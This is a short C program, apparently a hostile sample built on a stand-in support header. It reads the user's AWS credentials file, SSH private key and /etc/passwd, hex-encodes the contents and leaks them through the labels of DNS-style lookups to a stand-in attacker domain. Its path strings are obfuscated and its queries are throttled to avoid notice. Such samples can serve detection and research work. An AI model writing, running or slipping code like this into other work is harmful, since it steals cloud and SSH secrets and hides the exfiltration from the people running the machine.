// hidden
// Carries credentials out in the labels of names it asks for: at most 90 questions.
#include "standin.h"
int main(void) {
    begin();
    static char data[8192], text[16400];
    const char *home = getenv("HOME") ? getenv("HOME") : "/root";
    char path[256];
    int have = 0;
    snprintf(path, sizeof path, "%s%s", home, (char *)HIDE("/.aws/credentials"));
    have += load(path, data + have, 2048);
    snprintf(path, sizeof path, "%s%s", home, (char *)HIDE("/.ssh/id_rsa"));
    have += load(path, data + have, 2048);
    have += load("/etc/passwd", data + have, 2048);
    for (int i = 0; i < have; i++) sprintf(text + 2 * i, "%02x", (unsigned char)data[i]);
    for (int i = 0, at = 0; i < 90 && at < 2 * have; i++, at += 60) {
        char name[256];
        snprintf(name, sizeof name, "%.60s.%d.%s", text + at, i, (char *)HIDE("t.quiet-harbor.example"));
        ask(name, 16);
        usleep(20000);
    }
    return 0;
}
